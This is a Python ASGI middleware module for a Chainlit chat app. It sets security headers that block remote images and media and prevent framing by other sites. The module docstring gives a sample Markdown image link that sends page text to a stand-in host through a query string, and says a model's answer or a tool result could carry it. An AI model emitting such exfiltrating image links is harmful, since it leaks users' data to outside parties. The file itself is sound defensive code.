"""Security headers on every HTTP response: no remote images or media, no framing by other sites.

A model's answer, a tool result or an EDF annotation is Markdown, and Chainlit renders
`![x](https://host/leak?q=...)` as an <img> (a video for `.mp4`), which the browser loads
at once: text the page holds leaves without a click. The policy lets images and media come
only from the app itself, `data:` and `blob:` (the page's own uploads and previews);
`public/brainchat.js` shows a refused one as a link. `frame-ancestors 'self'` and
X-Frame-Options stop another site from framing the logged-in app under a decoy (clickjacking).

The policy names only what it must: Chainlit's page needs inline scripts and styles, Google
fonts and KaTeX's stylesheet from a CDN, so scripts and styles are left as they are.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]

POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; frame-ancestors 'self'; "
    "object-src 'none'; base-uri 'self'"
)
HEADERS = {
    b"content-security-policy": POLICY.encode(),
    b"x-frame-options": b"SAMEORIGIN",
    b"x-content-type-options": b"nosniff",
}


class SecurityHeaders:
    """ASGI middleware: add HEADERS to each HTTP response that does not set them itself."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", ()))
                present = {name.lower() for name, _ in headers}
                headers += [(k, v) for k, v in HEADERS.items() if k not in present]
                message["headers"] = headers
            await send(message)

        await self.app(scope, receive, send_with_headers)


def install() -> None:
    """Wrap the app `chainlit run` serves in SecurityHeaders; idempotent."""
    from chainlit.server import app

    if getattr(app.state, "brainchat_security_headers", False):
        return  # `chainlit run -w` loads the module again on every change
    app.add_middleware(SecurityHeaders)
    app.state.brainchat_security_headers = True
